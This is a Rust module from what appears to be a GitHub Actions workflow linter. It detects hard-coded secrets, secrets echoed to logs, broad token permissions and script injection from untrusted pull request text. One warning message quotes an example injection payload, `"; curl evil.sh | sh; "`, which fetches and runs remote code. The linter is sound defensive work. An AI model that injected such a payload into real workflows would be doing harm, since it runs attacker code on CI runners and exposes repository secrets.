//! Rules about what a workflow exposes: credentials written into `env:`, `with:` or
//! registry logins, secrets echoed to the log (directly or through an `env:` variable that
//! holds one) or pasted into a script, pull request text spliced into scripts (script
//! injection), and the job token's `permissions:`.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use regex::Regex;

use super::workflow::Job;
use super::{Requirements, Sink};
use crate::check::secret_names::is_secret_name;
use crate::check::yaml::{Node, could_be_credential};

static EXPRESSION: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?s)\$\{\{(.*?)\}\}").expect("a constant, valid regex"));

static SECRETS_EXPRESSION: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\$\{\{[^}]*\bsecrets\b").expect("a constant, valid regex"));

/// The name in `${{ secrets.NAME }}`.
static SECRET_NAME: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^\$\{\{\s*secrets\.([A-Za-z_][A-Za-z0-9_]*)").expect("a constant, valid regex")
});

static PRINTS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:^|[\s;&|(])(?:echo|printf)\b").expect("a constant, valid regex")
});

/// Contexts anyone who opens a pull request, issue or comment can write.
static UNTRUSTED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"github\.head_ref",
        r"|github\.event\.(?:pull_request|issue|discussion)\.(?:title|body)",
        r"|github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)",
        r"|github\.event\.(?:comment|review|review_comment)\.body",
        r"|github\.event\.head_commit\.(?:message|author\.(?:email|name))",
        r"|github\.event\.commits(?:\[[^\]]*\]|\.\*)?\.(?:message|author\.(?:email|name))",
        r"|github\.event\.pages(?:\[[^\]]*\]|\.\*)?\.page_name",
        r"|github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name)))",
    ))
    .expect("a constant, valid regex")
});

/// Checks an `env:` mapping (workflow, job or step) for hard-coded credentials.
pub(super) fn check_env(
    cx: &mut Sink<'_>,
    env: &Node,
    service_values: &BTreeSet<String>,
    req: &Requirements,
) {
    check_secret_entries(cx, env, "env", service_values, req);
}

/// Hard-coded credentials in `env:` or `with:` entries, and (with the requirement)
/// credentials not taken from the `secrets` context.
pub(super) fn check_secret_entries(
    cx: &mut Sink<'_>,
    map: &Node,
    section: &str,
    service_values: &BTreeSet<String>,
    req: &Requirements,
) {
    let Some(entries) = map.map() else { return };
    for (k, v) in entries {
        let Some(name) = k.text(cx.text) else {
            continue;
        };
        if !is_secret_name(&name) {
            continue;
        }
        let Some(value) = v.text(cx.text) else {
            continue;
        };
        if !could_be_credential(&value) {
            continue;
        }
        if !value.contains("${{") {
            if service_values.contains(&value) {
                continue;
            }
            let how = format!(
                "`{name}: ${{{{ secrets.{} }}}}`",
                name.to_ascii_uppercase().replace('-', "_")
            );
            cx.error(
                "hardcoded-secret",
                v.at(),
                format!(
                    "`{name}` is set to a literal value in `{section}:`, so the credential is in your repository for anyone who can read it (and in its history forever): store it as a repository secret (Settings → Secrets and variables → Actions) and write {how}"
                ),
            );
        } else if req.secrets_only_via_context && !from_secrets(&value) {
            cx.error(
                "require-secrets-via-context",
                v.at(),
                format!(
                    "`{name}` looks like a credential but does not come from the `secrets` context: store it as a repository secret and write `${{{{ secrets.NAME }}}}` (`vars` are not encrypted or masked in logs)"
                ),
            );
        }
    }
}

/// Whether an expression value comes from the `secrets` context or the job's token.
fn from_secrets(value: &str) -> bool {
    EXPRESSION.captures_iter(value).all(|c| {
        let inner = c.get(1).map_or("", |m| m.as_str()).trim();
        inner.starts_with("secrets.") || inner.starts_with("secrets[") || inner == "github.token"
    }) && EXPRESSION.is_match(value)
}

pub(super) fn check_permissions(
    cx: &mut Sink<'_>,
    root: &Node,
    jobs: &[Job<'_>],
    req: &Requirements,
) {
    let top = root.get("permissions");
    for p in top
        .into_iter()
        .chain(jobs.iter().filter_map(|j| j.body.get("permissions")))
    {
        if p.str() == Some("write-all") {
            cx.warning(
                "broad-permissions",
                p.at(),
                "`permissions: write-all` lets every step push code, create releases and change settings with the job's token: grant only what the job needs, e.g. `contents: read`",
            );
        }
    }
    if top.is_some() || req.permissions {
        return;
    }
    let missing: Vec<&str> = jobs
        .iter()
        .filter(|j| j.body.get("permissions").is_none())
        .map(|j| j.id.as_str())
        .collect();
    if missing.is_empty() {
        return;
    }
    let at = root.entry("jobs").map_or((0, 0), |(k, _)| k.at());
    cx.warning(
        "no-permissions",
        at,
        format!(
            "no `permissions:` is set for {}, so the job token gets the repository's default, which may allow writing: add `permissions:` with `contents: read` at the top of the workflow and grant more only to jobs that need it",
            list_names(&missing, "job")
        ),
    );
}

/// Names of the `env:` entries (workflow, job or step) whose value comes from a secret
/// or the job's token: printing `$NAME` prints the secret.
pub(super) fn secret_env_names(env: Option<&Node>, text: &str) -> BTreeSet<String> {
    let mut names = BTreeSet::new();
    for (k, v) in env.and_then(Node::map).unwrap_or_default() {
        if let (Some(name), Some(value)) = (k.text(text), v.text(text))
            && (SECRETS_EXPRESSION.is_match(&value) || value.contains("github.token"))
        {
            names.insert(name);
        }
    }
    names
}

/// Secrets printed to the log or pasted into the script, and untrusted text spliced
/// into it. `secret_vars` are the environment variables in scope that hold a secret.
pub(super) fn check_run(
    cx: &mut Sink<'_>,
    run: &Node,
    secret_vars: &BTreeSet<String>,
    req: &Requirements,
) {
    let (src, base) = run.scalar_source(cx.text);
    // Where a printed `${{ secrets.… }}` was reported, so it is not reported twice.
    let mut echoed = BTreeSet::new();
    let mut line_start = 0;
    for line in src.split_inclusive('\n') {
        for print in PRINTS.find_iter(line) {
            // What this echo prints: up to the next command on the line.
            let after = &line[print.end()..];
            let end = [";", "&&", "||"]
                .iter()
                .filter_map(|sep| after.find(sep))
                .min()
                .unwrap_or(after.len());
            let printed = &after[..end];
            if printed.contains('|') || printed.contains('>') || printed.contains("::add-mask::") {
                continue; // piped or redirected: not written to the log
            }
            let offset = line_start + print.end();
            if let Some(secret) = SECRETS_EXPRESSION.find(printed) {
                echoed.insert(offset + secret.start());
                cx.error(
                    "secret-echo",
                    run.pos_at(cx.text, base, offset + secret.start()),
                    "this step prints a secret with `echo`/`printf`; GitHub's log masking only catches exact matches, so encoded or partial copies leak into logs anyone with read access can see: do not print secrets; pass them to the command that needs them through `env:`",
                );
            } else if let Some((at, var)) = printed_variable(printed, secret_vars) {
                cx.error(
                    "secret-echo",
                    run.pos_at(cx.text, base, offset + at),
                    format!("this step prints `${var}`, which holds a secret (its `env:` value comes from `secrets`); GitHub's log masking only catches exact matches, so a changed or partial copy leaks into logs anyone with read access can see: do not print it; let the command that needs it read `${var}` itself"),
                );
            }
        }
        line_start += line.len();
    }
    if req.secrets_in_env {
        for m in SECRETS_EXPRESSION.find_iter(src) {
            if echoed.contains(&m.start()) {
                continue;
            }
            let name = SECRET_NAME
                .captures(&src[m.start()..])
                .and_then(|c| c.get(1))
                .map_or("NAME", |n| n.as_str());
            cx.error(
                "require-secrets-in-env",
                run.pos_at(cx.text, base, m.start()),
                format!("`${{{{ secrets.{name} }}}}` is pasted into the script text before the shell starts, so the value sits in the script file on the runner and in the step's log header (masked only if it matches exactly), and a quote or `$` in it is read as shell code: bind it in the step's `env:` as `{name}: ${{{{ secrets.{name} }}}}` and use `\"${name}\"` in the script"),
            );
        }
    }
    check_injection(cx, run);
}

/// The first `$NAME` or `${NAME}` in `printed` whose NAME is one of `vars`.
fn printed_variable<'v>(printed: &str, vars: &'v BTreeSet<String>) -> Option<(usize, &'v str)> {
    let mut found: Option<(usize, &str)> = None;
    for var in vars {
        for pattern in [format!("${var}"), format!("${{{var}")] {
            let mut from = 0;
            while let Some(i) = printed[from..].find(&pattern) {
                let at = from + i;
                let end = at + pattern.len();
                let next = printed[end..].chars().next();
                if !next.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
                    if found.is_none_or(|(f, _)| at < f) {
                        found = Some((at, var.as_str()));
                    }
                    break;
                }
                from = end;
            }
        }
    }
    found
}

/// Untrusted text spliced into a script by `${{ }}` (a `run:` or github-script's `script:`).
pub(super) fn check_injection(cx: &mut Sink<'_>, script: &Node) {
    let (src, base) = script.scalar_source(cx.text);
    for m in EXPRESSION.captures_iter(src) {
        let (Some(whole), Some(inner)) = (m.get(0), m.get(1)) else {
            continue;
        };
        if let Some(u) = UNTRUSTED.find(inner.as_str()) {
            cx.warning(
                "script-injection",
                script.pos_at(cx.text, base, whole.start()),
                format!(
                    "`{}` is text anyone opening a pull request or issue controls, and `${{{{ }}}}` pastes it into the script before the shell runs, so a title like `\"; curl evil.sh | sh; \"` runs as code: pass it through `env:` (e.g. `TITLE: ${{{{ {} }}}}`) and use `\"$TITLE\"` in the script",
                    u.as_str(),
                    u.as_str()
                ),
            );
        }
    }
}

/// `job `a``, `jobs `a` and `b``.
fn list_names(names: &[&str], noun: &str) -> String {
    let quoted: Vec<String> = names.iter().map(|n| format!("`{n}`")).collect();
    match quoted.as_slice() {
        [one] => format!("the {noun} {one}"),
        [init @ .., last] => format!("the {noun}s {} and {last}", init.join(", ")),
        [] => format!("any {noun}"),
    }
}
